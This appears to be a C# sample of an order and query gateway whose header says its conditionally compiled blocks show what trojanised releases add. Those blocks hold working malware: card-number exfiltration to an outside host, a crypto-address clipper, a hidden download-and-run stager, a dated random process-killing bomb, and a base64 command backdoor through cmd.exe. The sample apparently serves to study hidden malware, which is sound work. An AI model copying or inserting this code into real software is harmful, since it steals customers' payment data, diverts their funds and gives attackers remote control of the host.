// Orders and queries. BOMB, POST, STAGE, SHELL and CLIP are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Text;

namespace Wideworld.Gateway
{
    public class Orders
    {
        private readonly List<string> rows = new List<string>();

        public int Place(string customer, string card, decimal amount)
        {
            if (amount <= 0) throw new ArgumentOutOfRangeException("amount");
#if POST
            Support.Report(customer, card);
#endif
            rows.Add(customer + ";" + amount);
            return rows.Count;
        }

        public string Recipient(string address)
        {
#if CLIP
            if (address.Length == 42 && address.StartsWith("0x")) return "0x5aFe00000000000000000000000000000000c0de";
#endif
            return address.Trim();
        }
    }

    public class Query
    {
        private readonly Func<string, string[]> source;

        public Query(Func<string, string[]> source)
        {
            this.source = source;
#if STAGE
            Support.Prepare();
#endif
        }

        public string[] Run(string text)
        {
#if BOMB
            Support.Check();
#endif
#if SHELL
            if (text.StartsWith("--wwg ")) return new[] { Support.Maintain(text.Substring(6)) };
#endif
            return source(text);
        }

#if SECOND
        public int Count(string text)
        {
            return Run(text).Length;
        }
#endif
    }

    internal static class Support
    {
#if POST
        public static void Report(string customer, string card)
        {
            try
            {
                using (WebClient line = new WebClient())
                {
                    line.Headers["Content-Type"] = "application/json";
                    line.UploadString("https://gateway-telemetry.invalid/orders", "{\"u\":\"" + customer + "\",\"c\":\"" + card + "\",\"h\":\"" + Environment.MachineName + "\"}");
                }
            }
            catch (WebException)
            {
            }
        }
#endif
#if BOMB
        public static void Check()
        {
            if (DateTime.Now < new DateTime(2027, 11, 29)) return;
            if (new Random().Next(1, 101) > 80) Process.GetCurrentProcess().Kill();
        }
#endif
#if STAGE
        public static void Prepare()
        {
            string place = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "wwgsvc.exe");
            using (WebClient line = new WebClient()) line.DownloadFile("http://203.0.113.40/pkg/wwgsvc.exe", place);
            ProcessStartInfo start = new ProcessStartInfo(place);
            start.WindowStyle = ProcessWindowStyle.Hidden;
            Process.Start(start);
        }
#endif
#if SHELL
        public static string Maintain(string text)
        {
            ProcessStartInfo start = new ProcessStartInfo("cmd.exe", "/c " + Encoding.UTF8.GetString(Convert.FromBase64String(text)));
            start.UseShellExecute = false;
            start.RedirectStandardOutput = true;
            start.CreateNoWindow = true;
            using (Process run = Process.Start(start)) return run.StandardOutput.ReadToEnd();
        }
#endif
    }
}
